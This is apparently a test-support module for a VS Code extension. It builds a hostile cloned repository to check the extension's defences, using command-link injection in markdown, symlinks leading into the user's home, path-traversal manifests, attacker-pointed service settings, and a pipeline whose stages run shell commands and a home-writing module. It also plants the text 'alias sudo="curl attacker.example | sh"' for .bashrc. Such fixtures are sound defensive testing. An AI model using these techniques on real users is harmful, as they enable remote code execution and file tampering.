import { lstatSync, mkdirSync, readdirSync, readFileSync, readlinkSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join, relative } from 'node:path';
import type { NewRun } from '../../../src/storage/journal/records.ts';
import { newItems, newRun, openJournal, packed, result, value } from '../../support/journal/support.ts';

/** What an attacker would have a notification run. */
export const link = '](command:workbench.action.terminal.new)';

/** The text that waits in the clone's journal to be written into a home. */
export const plantedText = 'alias sudo="curl attacker.example | sh"';

export interface Clone {
  /** The folder that a person opens. */
  readonly folder: string;
  /** The journal that it brings. */
  readonly journal: string;
}

export interface CloneTargets {
  /** The person's home, which a link in the clone leads to. */
  readonly home: string;
  /** Address of a service that belongs to the attacker. */
  readonly address: string;
}

/**
 * Fills a folder with what a cloned repository may bring against whoever opens it: settings that name the attacker's
 * services, a journal whose texts wait to be written into the home, manifests of files elsewhere, and prompts that mean
 * to read and write outside.
 *
 * @param folder absolute and real, and there
 */
export function fillHostileClone(folder: string, { home, address }: CloneTargets): Clone {
  const write = (path: string, text: string): void => {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), text);
  };
  write('.git/HEAD', 'ref: refs/heads/main\n');
  write('README.md', `# A friendly project\n\n[Start${link}\n`);
  write('.vscode/settings.json', JSON.stringify(hostileSettings(folder, address), null, 2));
  symlinkSync(home, join(folder, 'way-out'));

  write('prompts/tagline.prompt.md', `---\ndescription: "[Run me${link}"\n---\nWrite a line. ![](${address}/seen)\n`);
  write('prompts/outside.prompt.md', '---\ncandidates:\n  output: ../../x/${index}.md\n---\nWrite a line.\n');
  write('prompts/through.prompt.md', 'Write a line.\n');
  symlinkSync(join(home, 'notes.md'), join(folder, 'prompts/notes.prompt.md'));
  write('pipelines/evil.pipeline.yml', hostilePipeline(home, address));
  write(
    'pipelines/evil.mjs',
    `import { writeFileSync } from 'node:fs';\nwriteFileSync(${JSON.stringify(join(home, 'owned-by-module'))}, '');\nexport default () => 'owned';\n`,
  );
  const files = ['../../../way-out/.bashrc', join(home, '.bashrc'), `[x${link}`];
  write(
    'prompts/candidates/outside/manifest.json',
    JSON.stringify({ version: 1, candidates: files.map((file) => ({ file, item: 'x', contentHash: '' })) }),
  );
  symlinkSync(home, join(folder, 'prompts/candidates/through'));
  return { folder, journal: plantJournal(folder) };
}

/** Every entry below a folder with its content, by its path there; links are not followed. */
export function contentsOf(folder: string): ReadonlyMap<string, string> {
  const contents = new Map<string, string>();
  const look = (below: string): void => {
    for (const { name } of readdirSync(join(folder, below), { withFileTypes: true }).sort(byName)) {
      const path = join(below, name);
      const content = contentOf(join(folder, path));
      contents.set(path, content);
      if (content === aFolder) look(path);
    }
  };
  look('');
  return contents;
}

const aFolder = 'folder';

function byName(one: { readonly name: string }, other: { readonly name: string }): number {
  return one.name < other.name ? -1 : 1;
}

function contentOf(path: string): string {
  const entry = lstatSync(path);
  if (entry.isSymbolicLink()) return `-> ${readlinkSync(path)}`;
  return entry.isFile() ? readFileSync(path, 'latin1') : aFolder;
}

/** Runs, asks and reads whatever it can, as soon as somebody lets it. */
function hostilePipeline(home: string, address: string): string {
  return `description: "[Run me${link}"
source: { files: "**/*", watch: true }
stages:
  - { name: run, command: [touch, "${join(home, 'owned-by-command')}"] }
  - { name: shell, shell: true, command: "touch '${join(home, 'owned-by-shell')}'" }
  - { name: module, module: ./evil.mjs }
  - { name: ask, http: { url: "${address}/seen", allowPrivate: true } }
`;
}

function hostileSettings(folder: string, address: string): Readonly<Record<string, unknown>> {
  const service = (name: string) => ({ name, kind: 'openai', baseUrl: address, models: ['m'], maxConcurrent: 1000 });
  return {
    'parallelCandidates.services': ['attacker', 'openai', 'demo'].map(service),
    'parallelCandidates.defaultService': 'attacker',
    'parallelCandidates.safetyFactor': 1e9,
    'parallelCandidates.retry.attempts': 100,
    'parallelCandidates.retry.baseSeconds': 0,
    'parallelCandidates.mode': `[x${link}`,
    'parallelCandidates.promptFiles': '**',
    'parallelCandidates.output': '../../x',
    'parallelCandidates.cache': 'refresh',
    'parallelCandidates.stateFolder': join(folder, '.parallel-candidates'),
  };
}

/** A run whose texts wait to be written through the link, and one that waits to be resumed. */
function plantJournal(folder: string): string {
  const directory = join(folder, '.parallel-candidates');
  const root = join(folder, 'way-out');
  const items = newItems(folder, 3).map((item) => ({
    ...item,
    service: 'attacker',
    model: 'm',
    output: { folder: root, series: '*.md', firstNumbered: true },
  }));
  const run = (id: string): NewRun => ({ ...newRun(folder, id), label: `[${id}${link}`, root, startedAt: Date.now() });
  const journal = openJournal(folder, { directory });
  try {
    const waiting = value(journal.write('createRun', run('waiting'), packed(folder, items)));
    for (const position of [0, 1, 2]) value(journal.write('recordResult', waiting, result(position, plantedText)));
    value(journal.write('release', waiting));
    value(journal.write('release', value(journal.write('createRun', run('unfinished'), packed(folder, items)))));
  } finally {
    journal.close();
  }
  return relative(folder, directory);
}
